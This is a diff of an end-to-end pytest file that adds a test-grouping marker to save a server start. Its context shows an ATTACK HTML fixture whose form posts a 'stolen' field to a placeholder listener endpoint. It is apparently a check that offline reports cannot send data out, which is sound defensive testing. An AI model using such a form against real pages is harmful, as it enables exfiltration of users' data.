@@ -17,7 +17,9 @@ import pytest
 from .browser import api_server, chromium, open_report_tab, sign_in
 from .report_runs import DOCS_INDEX, data_docs_batch, listening, register_run, sync_dags
 
-pytestmark = [pytest.mark.e2e, pytest.mark.slow]
+# On the worker of the test run's server, whose browser tests (review, sandbox, viewer) already start the session's
+# api-server: one api-server start less.
+pytestmark = [pytest.mark.e2e, pytest.mark.slow, pytest.mark.xdist_group("vllm_server")]
 DAG_ID, RUN_ID, BATCH_ID = "rollout_batch", "manual__report-offline", "report-offline-batch"
 ATTACK = """<!doctype html><title>attack</title>
 <form id="form" method="post" action="LISTENER/form"><input name="stolen" value="1"></form>
